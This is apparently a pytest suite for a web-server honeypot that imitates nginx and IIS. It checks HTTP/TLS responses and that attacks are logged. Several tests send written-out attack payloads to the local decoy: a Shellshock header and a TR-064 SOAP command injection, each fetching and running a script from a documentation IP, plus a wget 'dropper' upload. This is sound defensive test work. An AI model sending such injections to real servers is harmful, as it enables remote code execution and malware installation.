"""HTTP and HTTPS end to end with real clients: curl, http.client, openssl s_client, wrk."""

from __future__ import annotations

import hashlib
import http.client
import re
import socket
import ssl
import subprocess
import time

import pytest

from tests.conftest import only

SNI = "www.shop.example"


def curl(*args: str, timeout: float = 20) -> subprocess.CompletedProcess[str]:
    """curl's output as sent (CRLF kept)."""
    r = subprocess.run(["curl", "-sS", "--max-time", "10", *args], capture_output=True,
                       timeout=timeout)
    return subprocess.CompletedProcess(r.args, r.returncode, r.stdout.decode("latin-1"),
                                       r.stderr.decode("latin-1"))


def raw(port: int, data: bytes, wait: float = 2.0) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(data)
        s.settimeout(wait)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except TimeoutError:
            pass
        return out


@pytest.fixture
def nginx(honeypot_factory):
    return honeypot_factory(only({"http": {}}, persona={"preset": "debian-12"}))


def test_curl_http_and_https_as_nginx(nginx, tmp_path):
    hp = nginx
    http, https = hp.port(80), hp.port(443)
    base, tls = f"http://127.0.0.1:{http}", f"https://{SNI}:{https}"
    resolve = f"{SNI}:{https}:127.0.0.1"

    r = curl("-i", base + "/")
    assert r.stdout.startswith("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: ")
    assert "<title>Welcome to nginx!</title>" in r.stdout
    r = curl("-I", base + "/")
    assert "Content-Length: 615" in r.stdout and "<html>" not in r.stdout
    r = curl("-k", "-i", "--resolve", resolve, tls + "/nope")
    assert r.stdout.startswith("HTTP/1.1 404 Not Found") and "nginx/1.22.1" in r.stdout

    upload = tmp_path / "dropper.sh"
    upload.write_bytes(b"#!/bin/sh\nwget http://198.51.100.20/x -O /tmp/x\n" * 50)
    r = curl("-k", "--resolve", resolve, "-o", "/dev/null", "-w", "%{http_code}",
             "-F", f"payload=@{upload}", "-F", "note=hi", tls + "/upload.php")
    assert r.stdout == "404"
    chunked = tmp_path / "chunked.bin"
    chunked.write_bytes(bytes(range(256)) * 300)
    r = curl("-o", "/dev/null", "-w", "%{http_code}", "-H", "Transfer-Encoding: chunked",
             "-T", str(chunked), base + "/put/here.bin")
    assert r.stdout == "404"
    r = curl("-v", "-o", "/dev/null", "-o", "/dev/null", base + "/", base + "/again")
    assert "Re-using existing connection" in r.stderr

    assert hp.stop() == 0
    rows = hp.rows("SELECT r.http_request_method, r.http_request_target, r.http_request_status, "
                   "r.http_request_body_size, c.connection_transport FROM http_requests r "
                   "JOIN connections c ON c.connection = r.connection ORDER BY r.http_request")
    assert rows[:3] == [("GET", "/", 200, 0, "tcp"), ("HEAD", "/", 200, 0, "tcp"),
                        ("GET", "/nope", 404, 0, "tls")]
    assert ("PUT", "/put/here.bin", 404, 76800, "tcp") in rows
    again = hp.rows("SELECT connection FROM http_requests WHERE http_request_target IN "
                    "('/', '/again') ORDER BY http_request DESC LIMIT 2")
    assert again[0] == again[1], "keep-alive reuse is one connection"
    hdrs = hp.rows("SELECT h.http_header_name, h.http_header_value FROM http_headers h JOIN "
                   "http_requests r ON r.http_request = h.http_request WHERE "
                   "r.http_request_target = '/nope' ORDER BY h.http_header_index")
    assert hdrs[0] == ("Host", f"{SNI}:{https}") and hdrs[1][0] == "User-Agent"
    # uploads are in the store by hash
    md5s = {m for (m,) in hp.rows("SELECT download_md5_hash FROM downloads")}
    assert hashlib.md5(upload.read_bytes()).hexdigest() in md5s
    assert hashlib.md5(chunked.read_bytes()).hexdigest() in md5s
    urls = {u for (u,) in hp.rows("SELECT download_url FROM downloads")}
    assert f"https://{SNI}:{https}/upload.php#dropper.sh" in urls
    assert (hp.state / "binaries" / hashlib.md5(upload.read_bytes()).hexdigest()).exists()
    # the JSON line of the TLS connection has the request and the ClientHello
    lines = [x for x in hp.json_lines() if x["connection"]["protocol"] == "httpd"]
    tls_lines = [x for x in lines if x.get("tls", {}).get("sni") == SNI]
    assert tls_lines and tls_lines[0]["tls"]["ciphers"] and tls_lines[0]["tls"]["ja3_hash"]
    assert tls_lines[0]["http"]["requests"][0]["target"] == "/nope"


def test_http_client_keep_alive_post_and_exploits(nginx):
    hp = nginx
    port = hp.port(80)
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.request("GET", "/")
    r1 = conn.getresponse()
    assert r1.status == 200 and r1.getheader("Server") == "nginx/1.22.1" and len(r1.read()) == 615
    conn.request("POST", "/wp-login.php", body="log=admin&pwd=hunter2&wp-submit=Log+In",
                 headers={"Content-Type": "application/x-www-form-urlencoded"})
    r2 = conn.getresponse()
    assert r2.status == 200 and b"loginform" in r2.read()
    conn.request("GET", "/cgi-bin/test.cgi",
                 headers={"User-Agent": "() { :; }; /bin/bash -c 'wget http://198.51.100.7/s.sh'"})
    assert conn.getresponse().status == 404
    conn.close()
    soap = ("<SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers><NewNTPServer1>`cd /tmp;wget "
            "http://198.51.100.8/t.mips;chmod 777 t.mips;./t.mips`</NewNTPServer1>"
            "</u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>")
    c2 = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c2.request("POST", "/UD/act?1", body=soap, headers={"Content-Type": "text/xml"})
    assert c2.getresponse().status == 404
    c2.close()
    sip = raw(port, b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n"
                    b"Call-ID: 50000\r\nCSeq: 42 OPTIONS\r\nContent-Length: 0\r\n\r\n")
    assert sip.startswith(b"HTTP/1.1 400 Bad Request\r\nServer: nginx/1.22.1")
    assert hp.stop() == 0
    assert ("admin", "hunter2") in hp.rows("SELECT login_username, login_password FROM logins")
    offers = [u for (u,) in hp.rows("SELECT offer_url FROM offers")]
    assert "http://198.51.100.7/s.sh" in offers and "http://198.51.100.8/t.mips" in offers
    kinds = {k for (k,) in hp.rows("SELECT http_exploit_kind FROM http_exploits")}
    assert {"shellshock", "tr064"} <= kinds
    line = next(x for x in hp.json_lines() if x.get("credentials"))
    assert line["credentials"] == [{"username": "admin", "password": "hunter2"}]
    assert [r["method"] for r in line["http"]["requests"]] == ["GET", "POST", "GET"]


def test_openssl_s_client_with_sni(nginx):
    hp = nginx
    port = hp.port(443)
    request = f"GET / HTTP/1.1\r\nHost: {SNI}\r\nConnection: close\r\n\r\n"
    for version in ("-tls1_2", "-tls1_3"):
        r = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{port}",
                            "-servername", SNI, version, "-ign_eof"],
                           input=request, capture_output=True, text=True, timeout=20)
        assert "Server: nginx/1.22.1" in r.stdout and "Welcome to nginx!" in r.stdout
        assert ("TLSv1.3" if version == "-tls1_3" else "TLSv1.2") in r.stdout
    hostname = (hp.state / "secrets.json").read_text()
    assert re.search(r"subject=CN ?= ?\S+", r.stdout)
    assert hp.stop() == 0
    assert hostname  # the certificate was made for this install
    snis = [x["tls"]["sni"] for x in hp.json_lines() if "tls" in x]
    assert snis.count(SNI) == 2


def test_wrk_keep_alive_has_no_errors(nginx):
    port = nginx.port(80)
    r = subprocess.run(["wrk", "-t2", "-c20", "-d2s", f"http://127.0.0.1:{port}/"],
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr
    m = re.search(r"(\d+) requests in", r.stdout)
    assert m and int(m.group(1)) > 1000, r.stdout
    assert "Non-2xx" not in r.stdout and "Socket errors" not in r.stdout, r.stdout


def test_slowloris_header_timeout_closes(honeypot_factory):
    hp = honeypot_factory(only({"http": {"header_timeout": 1.0}},
                               persona={"preset": "debian-12"}))
    with socket.create_connection(("127.0.0.1", hp.port(80)), timeout=5) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        t0 = time.monotonic()
        s.settimeout(5)
        assert s.recv(100) == b""  # closed without an answer, as nginx does
        assert time.monotonic() - t0 < 3
    assert hp.stop() == 0
    limits = hp.rows("SELECT COUNT(*) FROM connections WHERE connection_protocol = 'httpd'")
    assert limits == [(1,)]


def test_iis_persona_with_curl_and_http_client(honeypot_factory):
    hp = honeypot_factory(only({"http": {}}, persona={"preset": "windows-2008r2"}))
    base = f"http://127.0.0.1:{hp.port(80)}"
    r = curl("-i", base + "/")
    head = r.stdout.split("\r\n\r\n", 1)[0].split("\r\n")
    assert head[0] == "HTTP/1.1 200 OK" and "Server: Microsoft-IIS/7.5" in head
    assert [h.split(":")[0] for h in head[1:]] == [
        "Content-Type", "Last-Modified", "Accept-Ranges", "ETag", "Server", "X-Powered-By",
        "Date", "Content-Length"]
    assert "<title>IIS7</title>" in r.stdout
    r = curl("-k", "-i", "-X", "OPTIONS", f"https://127.0.0.1:{hp.port(443)}/")
    assert "Allow: OPTIONS, TRACE, GET, HEAD, POST" in r.stdout
    conn = http.client.HTTPConnection("127.0.0.1", hp.port(80), timeout=10)
    conn.request("GET", "/nope.aspx")
    resp = conn.getresponse()
    assert resp.status == 404 and len(resp.read()) == 1245
    conn.request("GET", "/WP-LOGIN.PHP")
    assert conn.getresponse().status == 200
    conn.close()
    sip = raw(hp.port(80), b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\n\r\n")
    assert b"Server: Microsoft-HTTPAPI/2.0" in sip and sip.startswith(b"HTTP/1.1 400 ")
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", hp.port(443))) as s, \
            ctx.wrap_socket(s, server_hostname="win.example") as t:
        cert = t.getpeercert(binary_form=True)
    assert cert
    assert hp.stop() == 0
